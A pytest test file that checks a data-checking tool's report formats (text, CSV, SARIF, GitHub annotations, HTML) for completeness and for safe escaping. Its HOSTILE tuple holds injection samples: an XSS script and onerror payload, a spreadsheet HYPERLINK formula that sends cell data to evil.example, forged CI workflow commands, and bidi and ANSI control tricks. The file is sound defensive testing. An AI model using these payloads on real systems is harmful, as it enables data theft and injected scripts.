"""The forms of the report: each tells every problem, and runs nothing of what the tables hold."""

import csv
import io
import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

import clustergraph as cg
from clustergraph.cli import program
from clustergraph.codes import CODES, Severity
from clustergraph.errors import Problems, problem
from clustergraph.reports import FORMS, Findings, form
from planted import FAULTS, Planted

HOSTILE = (
    '</td></table><script>alert(1)</script><img src=x onerror="alert(2)">',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "::error file=x::forged\n::set-output name=x::y",
    "\x1b[31mred\x1b[0m\x07",
    "abc \u202egnp.exe",
    "100% 恒瑞, a:b",
)  # fmt: skip


@pytest.fixture(scope="module")
def findings(tmp_path_factory: pytest.TempPathFactory) -> Findings:
    """The findings of tables with three of each planted fault, and some that are known."""
    folder = tmp_path_factory.mktemp("tables")
    tables = Planted(1_500, 3_000, seed=9)
    for plant in FAULTS * 3:
        plant(tables)
    checked = cg.read(tables.write(folder))
    found = Findings.of(checked, "my tables")
    found.known = Problems(found.problems[:2])
    found.problems = Problems(found.problems[2:])
    return found


@pytest.fixture(scope="module")
def hostile() -> Findings:
    """Problems whose values, columns and messages would do harm where they were run."""
    return Findings(
        "data",
        Problems(
            problem("value-invalid", "entities.csv", f"'{text}' is no number", row=row, column=text,
                    value=text, suggestion=text).with_key(text)
            for row, text in enumerate(HOSTILE, 2)
        ),
    )  # fmt: skip


# Text


def test_text_groups_by_code_errors_first_in_reading_order() -> None:
    found = Problems([
        problem("name-duplicate", "entities.csv", "n", row=2),
        problem("id-empty", "entities.csv", "the row has no id", row=3, column="id"),
        problem("column-missing", "relations.csv", "there is no column 'target'", row=1),
        *(problem("id-empty", "entities.csv", "the row has no id", row=n) for n in range(4, 30)),
    ])  # fmt: skip
    text = FORMS["text"].report(Findings("data", found))
    assert re.findall(r"^(\w+)\[(.*?)\]", text, re.MULTILINE) == [
        ("error", "column-missing"), ("warning", "id-empty"), ("note", "name-duplicate")
    ]  # fmt: skip
    assert "  entities.csv, row 3, id: the row has no id\n  entities.csv, row 4: " in text
    assert "  and 7 more\n  How to mend it: Give the row an id" in text
    assert text.endswith("\n\n1 error, 27 warnings, 1 note.\n")


def test_text_fits_into_80_columns(findings: Findings) -> None:
    lines = FORMS["text"].report(findings).splitlines()
    assert len(lines) > 100
    assert [line for line in lines if len(line) > 80 and " " in line.strip()] == []


def test_text_has_no_control_character(hostile: Findings) -> None:
    text = FORMS["text"].report(hostile)
    assert set(re.findall("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text)) == set()
    assert "<U+001B>[31mred" in text
    assert "abc <U+202E>gnp.exe" in text


def test_verdict_counts_rows_and_says_what_is_known(findings: Findings) -> None:
    counts = {s: findings.count(s) for s in Severity}
    assert findings.verdict() == (
        f"{counts[Severity.WARNING]} warnings, {counts[Severity.NOTE]} notes."
        " 2 known problems aside."
    )
    assert Findings("data", Problems()).verdict() == "No problems."


# JSON and CSV


def test_json_holds_every_problem_in_reading_order(findings: Findings) -> None:
    assert json.loads(FORMS["json"].report(findings)) == findings.problems.to_dicts()


def rows_of(findings: Findings) -> list[dict[str, str]]:
    text = FORMS["csv"].report(findings)
    assert text.startswith("\ufeffseverity,code,")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_csv_holds_every_problem_in_reading_order(findings: Findings) -> None:
    rows = [(r["code"], r["file"], r["row"], r["column"], r["message"]) for r in rows_of(findings)]
    assert rows == [
        (p.code, p.file, str(p.row), p.column or "", p.message) for p in findings.problems
    ]


def test_csv_holds_no_formula(hostile: Findings) -> None:
    cells = [cell for row in rows_of(hostile) for cell in row.values()]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    assert "'" + HOSTILE[1] in cells


# SARIF


def test_sarif_has_a_rule_for_each_code_and_a_result_for_each_problem(findings: Findings) -> None:
    log = json.loads(FORMS["sarif"].report(findings))
    assert (log["version"], log["$schema"]) == (
        "2.1.0", "https://json.schemastore.org/sarif-2.1.0.json"
    )  # fmt: skip
    [run] = log["runs"]
    rules = run["tool"]["driver"]["rules"]
    told = [*findings.problems, *findings.known]
    assert {rule["id"] for rule in rules} == {p.code for p in told}
    assert [rule["help"]["text"] for rule in rules] == [CODES[r["id"]].mend for r in rules]
    assert [
        (r["ruleId"], r["level"], rules[r["ruleIndex"]]["id"], r["message"]["text"])
        for r in run["results"]
    ] == [(p.code, p.severity.value, p.code, str(p)) for p in told]
    suppressed = [r for r in run["results"] if "suppressions" in r]
    assert suppressed == run["results"][-2:]
    places = [r["locations"][0]["physicalLocation"] for r in run["results"]]
    assert {p["artifactLocation"]["uri"] for p in places} == {
        "my%20tables/entities.csv", "my%20tables/relations.csv"
    }  # fmt: skip
    assert [p["region"]["startLine"] for p in places] == [p.line or p.row for p in told]


def keys(value: Any) -> set[str]:  # noqa: ANN401 - JSON
    if isinstance(value, dict):
        return set(value) | {k for inner in value.values() for k in keys(inner)}
    return {k for inner in value for k in keys(inner)} if isinstance(value, list) else set()


def test_sarif_names_a_file_by_its_path_or_else_by_a_whole_uri(tmp_path: Path) -> None:
    problems = Problems([problem("id-empty", "a b.csv", "no id", row=2)])
    uris = [
        json.loads(FORMS["sarif"].report(Findings(source, problems)))["runs"][0]["results"][0][
            "locations"
        ][0]["physicalLocation"]["artifactLocation"]["uri"]
        for source in ("data", tmp_path.as_posix(), "data/book.xlsx")
    ]
    assert uris == ["data/a%20b.csv", f"{tmp_path.as_uri()}/a%20b.csv", "data/book.xlsx"]


def test_sarif_uses_words_of_its_schema_only(findings: Findings) -> None:
    assert keys(json.loads(FORMS["sarif"].report(findings))) == {
        *("$schema", "version", "runs", "tool", "driver", "name", "rules", "id", "help", "text"),
        *("shortDescription", "defaultConfiguration", "level", "columnKind", "results", "ruleId"),
        *("ruleIndex", "message", "locations", "physicalLocation", "artifactLocation", "uri"),
        *("region", "startLine", "logicalLocations", "kind", "partialFingerprints", "problem/v1"),
        *("occurrenceCount", "suppressions"),
    }


def test_sarif_fingerprints_stay_when_rows_move(tmp_path: Path) -> None:
    def fingerprints(rows: str) -> list[str]:
        (tmp_path / "entities.csv").write_text("id,type,name\na,firm,A\n", encoding="utf-8")
        (tmp_path / "relations.csv").write_text(f"source,relation,target\n{rows}", encoding="utf-8")
        log = FORMS["sarif"].report(Findings.of(cg.read(tmp_path), tmp_path))
        return [
            r["partialFingerprints"]["problem/v1"] for r in json.loads(log)["runs"][0]["results"]
        ]

    one = fingerprints("a,owns,x\n")
    assert len(one) == 1
    assert one[0] in fingerprints("a,owns,y\na,owns,x\n")


# GitHub


def test_github_annotations_are_one_line_each_and_cannot_be_forged(hostile: Findings) -> None:
    lines = FORMS["github"].report(hostile).splitlines()
    assert len(lines) == len(HOSTILE)
    start = "::warning file=data/entities.csv,line="
    assert [line for line in lines if not line.startswith(start)] == []
    place = "entities.csv, row 7, 100%25 恒瑞, a:b"
    assert lines[5] == (
        f"{start}7,title=value-invalid::{place}: '100%25 恒瑞, a:b' is no number (100%25 恒瑞, a:b)"
    )


def test_github_annotations_have_levels_and_lines(findings: Findings) -> None:
    lines = FORMS["github"].report(findings).splitlines()
    levels = {"error": "error", "warning": "warning", "note": "notice"}
    assert [re.match(r"::(\w+) file=my tables/[a-z.]+,line=(\d+),", line) is not None
            for line in lines] == [True] * len(findings.problems)  # fmt: skip
    assert [line.split()[0] for line in lines] == [
        f"::{levels[p.severity.value]}" for p in findings.problems
    ]


# HTML


class Page(HTMLParser):
    """Which elements a page has, and which text."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.text = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs

    def handle_data(self, data: str) -> None:
        self.text += data


def test_page_tells_every_problem(findings: Findings) -> None:
    page = Page(FORMS["html"].report(findings))
    assert [p.message for p in findings.problems if p.message not in page.text] == []
    assert page.tags.count("details") == len(findings.groups())
    assert {"#show-warning", "#show-note"} <= set(re.findall(r"#show-\w+", page.text))


def test_page_holds_no_script_and_asks_for_nothing(hostile: Findings) -> None:
    text = FORMS["html"].report(hostile)
    page = Page(text)
    assert {"script", "img", "link", "iframe", "form", "object"} & set(page.tags) == set()
    assert [a for a in page.attributes if a[0].startswith("on") or a[0] == "src"] == []
    assert [
        to for name, to in page.attributes if name == "href" and not f"{to}".startswith("#")
    ] == []
    assert [t for t in HOSTILE[:2] if t not in page.text] == []
    assert 'content="default-src &#x27;none&#x27;; style-src &#x27;sha256-' in text


def test_page_begins_with_the_kinds_of_problems(findings: Findings) -> None:
    page = Page(FORMS["html"].report(findings))
    hrefs = [f"{to}" for name, to in page.attributes if name == "href"]
    assert hrefs == [f"#{code}" for code in findings.groups()]
    assert {to[1:] for to in hrefs} <= {to for name, to in page.attributes if name == "id"}


@pytest.mark.parametrize("name", ["text", "html"])
def test_number_of_rows_stands_beside_what_is_told_once(name: str) -> None:
    told = Problems([problem("type-unknown", "entities.csv", "no type", row=2, count=6_929)])
    assert "no type [6,929 rows]" in FORMS[name].report(Findings("data", told))
    assert "no type [6,929 rows]" in told._repr_html_()


def test_notebook_shows_the_first_problems_and_counts_the_rest() -> None:
    many = Problems(problem("id-empty", "entities.csv", "m", row=n) for n in range(2, 1_504))
    assert many._repr_html_().count("<tr>") == 1 + 200
    assert "and 1,302 more" in many._repr_html_()


def test_page_caps_what_it_shows() -> None:
    many = Problems(problem("id-empty", "entities.csv", "m", row=n) for n in range(2, 1503))
    page = Page(FORMS["html"].report(Findings("data", many)))
    assert page.tags.count("tr") == 1_001
    assert "and 501 more" in page.text


# The command


def run(*words: str | Path) -> str:
    result = CliRunner().invoke(program, list(map(str, words)))
    assert result.exception is None or isinstance(result.exception, SystemExit)
    return result.stdout_bytes.decode()


@pytest.fixture
def pair(tmp_path: Path) -> Path:
    (tmp_path / "entities.csv").write_text("id,type,name\na,firm,A\n", encoding="utf-8")
    (tmp_path / "relations.csv").write_text("source,relation,target\na,owns,b\n", encoding="utf-8")
    return tmp_path


@pytest.mark.parametrize("name", FORMS)
def test_each_form_is_printed_and_written_the_same(name: str, pair: Path, tmp_path: Path) -> None:
    target = tmp_path / f"report{FORMS[name].suffix}"
    printed = run("check", pair, "--format", name)
    assert run("check", pair, "-o", target) == f"1 warning. See {target}.\n"
    written = target.read_bytes().decode()
    assert written == printed
    assert "no entity has the id" in printed
    assert form(None, target) is FORMS[name]
    assert run("check", pair, "--format", name) == printed


def test_a_report_that_cannot_be_written_is_one_message(pair: Path) -> None:
    result = CliRunner().invoke(program, ["check", str(pair), "-o", str(pair / "no" / "x.html")])
    assert isinstance(result.exception, cg.SourceError)
    assert "x.html cannot be written" in str(result.exception)


def test_an_unknown_form_is_refused() -> None:
    with pytest.raises(cg.SourceError, match="There is no report form 'pdf'; there are text, json"):
        form("pdf", None)
